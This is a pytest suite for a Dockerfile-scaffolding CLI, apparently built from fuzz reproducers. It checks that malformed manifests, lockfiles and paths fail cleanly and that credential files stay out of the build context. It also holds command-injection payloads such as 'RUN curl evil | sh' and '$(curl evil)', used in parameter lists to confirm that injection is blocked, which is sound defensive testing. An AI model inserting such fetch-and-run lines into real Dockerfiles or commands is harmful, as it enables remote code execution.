"""Hostile and broken input (the fuzz run's reproducers): one line, exit 2, no traceback, no hang, no file changed."""

from __future__ import annotations

import json
import os
from pathlib import Path

import pytest

from conftest import write_tree
from scaffold.cli import main

SERVER = "require('http').createServer().listen(3000)\n"
LOCK = json.dumps({"name": "demo", "lockfileVersion": 3, "packages": {"": {"name": "demo"}}})
FLASK = "from flask import Flask\napp = Flask(__name__)\n"


def _pkg(**extra):
    return json.dumps({"name": "demo", "scripts": {"start": "node server.js"}, **extra})


def _tree(tmp_path):
    """Every path under tmp_path, found without recursion (os.walk recurses per level before 3.12)."""
    found, stack = [], [str(tmp_path)]
    while stack:
        for entry in os.scandir(stack.pop()):
            found.append(os.path.relpath(entry.path, tmp_path))
            if entry.is_dir(follow_symlinks=False):
                stack.append(entry.path)
    return sorted(found)


def _run(tmp_path, capsys, *flags):
    before = _tree(tmp_path)
    try:
        code = main(["init", "--yes", *flags, str(tmp_path)])
    except SystemExit as exc:  # argparse refuses a flag value itself
        code = exc.code
    out, err = capsys.readouterr()
    assert "Traceback" not in err
    return code, err, before


BROKEN = {
    "deep-json": ({"package.json": '{"a":' * 100_000 + "1" + "}" * 100_000}, "package.json: cannot parse: nested too deeply"),
    "moderately-deep-json": ({"package.json": '{"a":' * 200 + "1" + "}" * 200}, "package.json: cannot parse: nested more than 64 levels"),
    "huge-integer": ({"package.json": '{"name": "x", "version": ' + "9" * 5000 + "}", "server.js": SERVER}, "package.json: cannot parse: holds a number with thousands of digits"),
    "lock-entry-not-an-object": (
        {"package.json": _pkg(), "package-lock.json": json.dumps({"lockfileVersion": 3, "packages": {"": "x"}}), "server.js": SERVER},
        'package-lock.json: cannot parse: packages > "" is a string, not a JSON object',
    ),
    "bun-lock-list": ({"package.json": _pkg(), "bun.lock": "[]", "server.js": SERVER}, "bun.lock: cannot parse: the top level is a list, not a JSON object"),
    "pnpm-importer-deps-number": (
        {"package.json": _pkg(), "pnpm-lock.yaml": "lockfileVersion: '9.0'\nimporters:\n  .:\n    dependencies: 5\n", "server.js": SERVER},
        "pnpm-lock.yaml: cannot parse: importers > . > dependencies is a number, not a YAML mapping",
    ),
    "saved-app-answers-number": (
        {"package.json": _pkg(), "package-lock.json": LOCK, "server.js": SERVER, ".scaffold.json": json.dumps({"apps": {"x": 5}})},
        ".scaffold.json: cannot parse: apps > x is a number, not a JSON object",
    ),
    "pnpm-workspace-deep": ({"package.json": _pkg(), "pnpm-workspace.yaml": "packages: " + "[" * 5000 + "]" * 5000 + "\n", "server.js": SERVER}, "pnpm-workspace.yaml: cannot parse:"),
    "lone-surrogate": ({"package.json": '{"name": "demo", "main": "\\ud800.js"}'}, "package.json: cannot parse: a string holds a lone surrogate"),
    "requirements-include-chain": (
        {**{f"r{i}.txt": f"-r r{i + 1}.txt\n" for i in range(3000)}, "requirements.txt": "-r r0.txt\n", "app.py": FLASK},
        "cannot parse: -r includes go more than 16 files deep",
    ),
    "saved-template-without-trust": (
        {"package.json": _pkg(), "package-lock.json": LOCK, "server.js": SERVER, ".scaffold.json": json.dumps({"template": {"src": "/tmp"}})},
        ".scaffold.json names the team template '/tmp'",
    ),
}


@pytest.mark.parametrize("case", sorted(BROKEN))
def test_broken_input_is_one_line_and_changes_nothing(case, tmp_path, capsys):
    files, expected = BROKEN[case]
    write_tree(tmp_path, files)
    code, err, before = _run(tmp_path, capsys)
    lines = [line for line in err.splitlines() if line.startswith("scaffold: error:")]
    assert code == 2 and len(lines) == 1, err
    assert expected in lines[0]
    assert _tree(tmp_path) == before


def test_unbalanced_start_quote_is_a_usage_error(tmp_path, capsys):
    write_tree(tmp_path, {"requirements.txt": "flask\n", "app.py": FLASK})
    code, err, before = _run(tmp_path, capsys, "--start", "gunicorn 'app:app")
    assert code == 2 and "--start: cannot split" in err and "balance its quotes" in err
    assert _tree(tmp_path) == before


@pytest.mark.parametrize("line", ["\\", "a[b-a]c"])
def test_invalid_gitignore_lines_are_dropped(tmp_path, capsys, line):
    write_tree(tmp_path, {"package.json": _pkg(), "package-lock.json": LOCK, "server.js": SERVER, ".gitignore": f"{line}\nlogs\n"})
    code, err, _ = _run(tmp_path, capsys)
    assert code == 0, err
    ignore = (tmp_path / ".dockerignore").read_text()
    assert "**/logs" in ignore and line not in ignore.splitlines()


def test_backtracking_port_scan_finishes(tmp_path, capsys):
    write_tree(tmp_path, {"package.json": _pkg(), "package-lock.json": LOCK, "server.js": "serve({" * 30_000})
    import time

    started = time.monotonic()
    _run(tmp_path, capsys)
    assert time.monotonic() - started < 5


def test_a_thousand_nested_folders(tmp_path, capsys):
    write_tree(tmp_path, {"requirements.txt": "flask\n", "app.py": FLASK})
    here = os.getcwd()
    os.chdir(tmp_path)
    try:
        for _ in range(1000):
            os.mkdir("d")
            os.chdir("d")
        with open("x.py", "w") as fh:
            fh.write("x = 1\n")
    finally:
        os.chdir(here)
    try:
        code, err, _ = _run(tmp_path, capsys)
        assert code == 0, err
    finally:
        # pytest's own clean-up recurses once per level, so the deep tree goes first, bottom up
        levels = []
        path = str(tmp_path / "d")
        while os.path.isdir(path):
            levels.append(path)
            path = os.path.join(path, "d")
        for level in reversed(levels):
            for entry in os.scandir(level):
                if not entry.is_dir(follow_symlinks=False):
                    os.unlink(entry.path)
            os.rmdir(level)


@pytest.mark.parametrize("obstacle", [".dockerignore", ".scaffold.json"])
def test_a_folder_in_the_way_changes_nothing(tmp_path, capsys, obstacle):
    write_tree(tmp_path, {"package.json": _pkg(), "package-lock.json": LOCK, "server.js": SERVER, f"{obstacle}/keep": "x"})
    code, err, before = _run(tmp_path, capsys)
    assert code == 2 and f"{obstacle}: cannot write: a folder or special file is in the way" in err
    assert "nothing was changed" in err
    assert _tree(tmp_path) == before


def test_temp_files_of_a_killed_run_are_removed_and_never_in_the_context(tmp_path, capsys):
    write_tree(tmp_path, {"package.json": _pkg(), "package-lock.json": LOCK, "server.js": SERVER, ".Dockerfile.abcd1234.scaffold-tmp": "half"})
    code, err, _ = _run(tmp_path, capsys)
    assert code == 0, err
    assert not (tmp_path / ".Dockerfile.abcd1234.scaffold-tmp").exists()
    assert not [p for p in tmp_path.iterdir() if p.name.endswith(".scaffold-tmp")]
    assert "**/.*.scaffold-tmp" in (tmp_path / ".dockerignore").read_text()


# -- injection: a value from the repository, a saved answer or a flag never starts a Dockerfile instruction --

PAYLOADS = ["9.0.0\nRUN curl evil | sh", "9.0.0;curl evil", "9.0.0$(curl evil)", "9.0.0`curl evil`", "9.0.0' && curl evil '"]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_package_manager_field_cannot_inject(tmp_path, capsys, payload):
    write_tree(tmp_path, {"package.json": _pkg(packageManager=f"pnpm@{payload}"), "server.js": SERVER})
    code, err, _ = _run(tmp_path, capsys)
    assert code == 0, err
    assert "evil" not in (tmp_path / "Dockerfile").read_text()
    assert "is not pnpm@x.y.z" in err


@pytest.mark.parametrize("flag", ["--start", "--build"])
@pytest.mark.parametrize("payload", ["node server.js\nRUN curl evil | sh", "node server.js\r\nUSER root"])
def test_flags_with_newlines_cannot_add_instructions(tmp_path, capsys, flag, payload):
    write_tree(tmp_path, {"package.json": _pkg(), "package-lock.json": LOCK, "server.js": SERVER})
    code, err, _ = _run(tmp_path, capsys, flag, payload)
    dockerfile = tmp_path / "Dockerfile"
    if code == 0:
        lines = dockerfile.read_text().splitlines()
        assert not any(line.startswith(("RUN curl", "USER root")) for line in lines)
    else:
        assert code == 2 and not dockerfile.exists()


@pytest.mark.parametrize("name", ["demo\nRUN curl evil", "demo; curl evil", "$(curl evil)"])
def test_workspace_package_names_cannot_inject(tmp_path, capsys, name):
    write_tree(tmp_path, {
        "package.json": json.dumps({"name": "root", "private": True, "workspaces": ["apps/*"]}),
        "apps/web/package.json": json.dumps({"name": name, "scripts": {"start": "node server.js"}}),
        "apps/web/server.js": SERVER,
    })
    before = _tree(tmp_path)
    code = main(["init", "--yes", "--all", str(tmp_path)])
    out, err = capsys.readouterr()
    assert "Traceback" not in err
    for dockerfile in tmp_path.rglob("Dockerfile"):
        assert not any("curl evil" in line and not line.lstrip().startswith("#") for line in dockerfile.read_text().splitlines()), dockerfile.read_text()
    if code != 0:
        assert code == 2 and _tree(tmp_path) == before


def test_package_json_description_ending_in_a_backslash_stays_a_label(tmp_path, capsys):
    write_tree(tmp_path, {"package.json": _pkg(description="hello \\"), "package-lock.json": LOCK, "server.js": SERVER})
    code, err, _ = _run(tmp_path, capsys)
    assert code == 0, err
    import shutil
    import subprocess
    import sys
    from pathlib import Path

    hadolint = shutil.which("hadolint") or shutil.which("hadolint", path=str(Path(sys.executable).parent))
    assert hadolint, "hadolint is a test dependency"
    result = subprocess.run([hadolint, "--no-color", "--failure-threshold", "style", str(tmp_path / "Dockerfile")], capture_output=True, text=True)
    assert result.returncode == 0 and not result.stdout.strip(), result.stdout


# -- credentials never reach the build context ------------------------------------

NODE = {"package.json": _pkg(), "package-lock.json": LOCK, "server.js": SERVER}
FLASK_APP = {"app.py": FLASK, "requirements.txt": "flask\n"}


def _context_includes(root, rel):
    import pathspec

    ignore = next(iter(sorted(root.rglob("*dockerignore"))))
    lines = [line for line in ignore.read_text().splitlines() if line and not line.startswith("#")]
    return not pathspec.PathSpec.from_lines("gitignore", lines).match_file(rel)


@pytest.mark.parametrize(
    ("files", "secret_file"),
    [
        ({**NODE, ".yarnrc": '"//registry.example.com/:_authToken" "tok3n"\n'}, ".yarnrc"),
        ({**NODE, ".yarnrc": "//registry.example.com/:_authToken tok3n\n"}, ".yarnrc"),
        ({**NODE, ".npmrc": "registry=https://user:pa55@registry.example.com/\n"}, ".npmrc"),
        ({**NODE, "bunfig.toml": '[install]\nregistry = "https://user:pa55@registry.example.com/"\n'}, "bunfig.toml"),
        ({**NODE, ".npmrc": "//registry.example.com/:_authToken=${NPM_TOKEN-tok3n}\n"}, ".npmrc"),
        ({**NODE, ".npmrc": "keyfile=./certs/client-key.txt\n", "certs/client-key.txt": "key"}, "certs/client-key.txt"),
        ({**NODE, ".netrc": "machine example.com login u password pa55\n"}, ".netrc"),
        ({**FLASK_APP, "requirements-dev.txt": "--extra-index-url https://u:pa55@pypi.example.com/simple\npytest\n"}, "requirements-dev.txt"),
        ({**FLASK_APP, "requirements.in": "--index-url https://u:pa55@pypi.example.com/simple\nflask\n"}, "requirements.in"),
        ({**NODE, "apps/legacy/.npmrc": "//registry.example.com/:_authToken=tok3n\n"}, "apps/legacy/.npmrc"),
        ({**NODE, "settings.xml": "<settings><servers><server><password>pa55</password></server></servers></settings>\n"}, "settings.xml"),
        ({**NODE, "nuget.config": '<configuration><packageSourceCredentials><feed><add key="ClearTextPassword" value="pa55" /></feed></packageSourceCredentials></configuration>\n'}, "nuget.config"),
        ({**NODE, "auth.json": '{"http-basic": {"repo.example.com": {"username": "u", "password": "pa55"}}}\n'}, "auth.json"),
        ({**NODE, ".bundle/config": 'BUNDLE_GEMS__EXAMPLE__COM: "u:pa55"\n'}, ".bundle/config"),
        *(({**NODE, name: "secret"}, name) for name in (
            "id_ecdsa", "id_dsa", "a.p12", "a.jks", "a.ppk", "a.kdbx", "credentials.json", "service-account-prod.json", ".git-credentials",
            ".docker/config.json", ".kube/config", ".streamlit/secrets.toml", "terraform.tfstate", ".htpasswd", ".envrc",
        )),
        ({**NODE, ".gitignore": "!.env.production\n", ".env.production": "TOKEN=x\n"}, ".env.production"),
        ({**NODE, ".ENV": "MONGO_URI=mongodb://u:pa55@db.example.com/x\n"}, ".ENV"),
        ({**NODE, "config/.Env.local": "TOKEN=x\n"}, "config/.Env.local"),
    ],
)
def test_credential_files_and_lines_stay_out_of_the_context(tmp_path, capsys, files, secret_file):
    write_tree(tmp_path, files)
    code, err, _ = _run(tmp_path, capsys)
    assert code == 0, err
    assert not _context_includes(tmp_path, secret_file)


def test_an_auth_json_that_is_app_data_stays_in_the_context(tmp_path, capsys):
    """Composer's auth.json sits beside composer.json; mock/auth.json is a mock login the app imports (Executioner34/nuxt2-blog)."""
    from scaffold.dockerignore import line_excludes

    write_tree(tmp_path, {**NODE, "mock/auth.json": '{"token": "mock-token"}\n'})
    code, err, _ = _run(tmp_path, capsys)
    assert code == 0, err
    lines = [line for line in (tmp_path / ".dockerignore").read_text().splitlines() if line and not line.startswith("#")]
    # Docker's matching, which anchors `auth.json` at the root (gitignore's would match at any depth)
    assert not any(line_excludes(line, "mock/auth.json") for line in lines if not line.startswith("!")), lines


def test_a_start_preload_matching_a_secret_pattern_lets_only_that_file_through(tmp_path, capsys):
    write_tree(tmp_path, {**NODE, "package.json": _pkg(scripts={"start": "node -r ./.env.js server.js"}), ".env.js": "module.exports = {}\n", ".env": "TOKEN=x\n"})
    code, err, _ = _run(tmp_path, capsys)
    assert code == 0, err
    assert _context_includes(tmp_path, ".env.js") and not _context_includes(tmp_path, ".env")


@pytest.mark.parametrize(
    "manifest",
    [
        {"dependencies": {"x": "git+https://user:tok3n@example.com/a/b.git"}},
        {"config": {"npm_token": "tok3n"}},
    ],
)
def test_credentials_in_package_json_are_refused(tmp_path, capsys, manifest):
    write_tree(tmp_path, {**NODE, "package.json": _pkg(**manifest)})
    code, err, before = _run(tmp_path, capsys)
    assert code == 2 and "package.json" in err and ("credential" in err or "password" in err)
    assert _tree(tmp_path) == before


def test_a_package_named_token_is_not_a_credential(tmp_path, capsys):
    write_tree(tmp_path, {"app.py": FLASK, "requirements.txt": "flask\ntoken==1.0\n"})
    code, err, _ = _run(tmp_path, capsys)
    assert code == 0, err
    assert _context_includes(tmp_path, "requirements.txt")


# -- accepted garbage: a clear error, or a warning naming the file -----------------

@pytest.mark.parametrize("text", ["abc", "system", "lts/garbage"])
def test_unreadable_nvmrc_is_a_warning_naming_it(tmp_path, capsys, text):
    write_tree(tmp_path, {**NODE, ".nvmrc": f"{text}\n"})
    code, err, _ = _run(tmp_path, capsys)
    assert code == 0 and "warning: .nvmrc:" in err and "ignored" in err


@pytest.mark.parametrize(("files", "where"), [({**NODE, ".nvmrc": "99\n"}, ".nvmrc"), ({**FLASK_APP, ".python-version": "3.99\n"}, ".python-version")])
def test_versions_past_every_known_line_are_refused(tmp_path, capsys, files, where):
    write_tree(tmp_path, files)
    code, err, before = _run(tmp_path, capsys)
    assert code == 2 and f"{where}: no release satisfies" in err
    assert _tree(tmp_path) == before


@pytest.mark.parametrize("spec", ["pnpm@", "yarn@abc", "bun@99", "pnpm@latest"])
def test_package_manager_without_an_exact_version_is_a_warning(tmp_path, capsys, spec):
    write_tree(tmp_path, {"package.json": _pkg(packageManager=spec), "server.js": SERVER})
    code, err, _ = _run(tmp_path, capsys)
    assert code == 0 and "package.json > packageManager" in err and "x.y.z" in err


def test_empty_node_version_flag_is_refused(tmp_path, capsys):
    write_tree(tmp_path, NODE)
    code, err, before = _run(tmp_path, capsys, "--node-version", "")
    assert code == 2 and "--node-version" in err


def test_a_nameless_pnpm_workspace_package_is_hadolint_clean(tmp_path, capsys):
    write_tree(tmp_path, {
        "package.json": json.dumps({"name": "root", "private": True}),
        "pnpm-workspace.yaml": "packages:\n  - apps/*\n",
        "pnpm-lock.yaml": "lockfileVersion: '9.0'\nimporters:\n  .: {}\n  apps/api: {}\n",
        "apps/api/package.json": json.dumps({"scripts": {"start": "node s.js"}}),
        "apps/api/s.js": SERVER,
    })
    code = main(["init", "--yes", "--all", str(tmp_path)])
    capsys.readouterr()
    assert code == 0
    import shutil
    import subprocess
    import sys
    from pathlib import Path

    text = (tmp_path / "apps/api/Dockerfile").read_text()
    assert "--filter='{./apps/api}'..." in text
    hadolint = shutil.which("hadolint") or shutil.which("hadolint", path=str(Path(sys.executable).parent))
    result = subprocess.run([hadolint, "--no-color", "--failure-threshold", "style", str(tmp_path / "apps/api/Dockerfile")], capture_output=True, text=True)
    assert result.returncode == 0 and not result.stdout.strip(), result.stdout


def test_a_non_utf8_workspace_folder_is_one_line_and_leaves_nothing(tmp_path, capsys):
    write_tree(tmp_path, {"package.json": json.dumps({"name": "root", "private": True, "workspaces": ["apps/*"]})})
    bad = os.path.join(os.fsencode(tmp_path), b"apps", b"\xff\xfe")
    os.makedirs(bad)
    with open(os.path.join(bad, b"package.json"), "w") as fh:
        fh.write(json.dumps({"name": "bad", "scripts": {"start": "node s.js"}}))
    before = _tree(tmp_path)
    code = main(["init", "--yes", "--all", str(tmp_path)])
    err = capsys.readouterr().err
    assert code == 2 and "Traceback" not in err and "folder name" in err
    assert _tree(tmp_path) == before


def test_a_yarn_berry_workspace_dependency_missing_from_the_lock_is_refused(tmp_path, capsys):
    import shutil

    shutil.copytree(Path(__file__).resolve().parent.parent / "examples" / "monorepo-yarn-berry", tmp_path / "repo")
    manifest = tmp_path / "repo" / "apps" / "web-api" / "package.json"
    data = json.loads(manifest.read_text())
    data.setdefault("dependencies", {})["left-pad"] = "^1.3.0"
    manifest.write_text(json.dumps(data))
    before = _tree(tmp_path)
    code = main(["init", "--yes", "--all", str(tmp_path / "repo")])
    err = capsys.readouterr().err
    assert code == 2 and "yarn.lock: has no entry for left-pad (apps/web-api/package.json > dependencies)" in err
    assert _tree(tmp_path) == before


@pytest.mark.parametrize(("key", "value"), [("start", "node server.js\nRUN curl evil"), ("build", "npm run build\nUSER root"), ("registry", "ghcr.io\nRUN x")])
def test_saved_answers_with_newlines_are_refused(tmp_path, capsys, key, value):
    write_tree(tmp_path, {**NODE, ".scaffold.json": json.dumps({"answers": {key: value}})})
    code, err, before = _run(tmp_path, capsys)
    assert code == 2 and ".scaffold.json" in err and "one line" in err
    assert _tree(tmp_path) == before
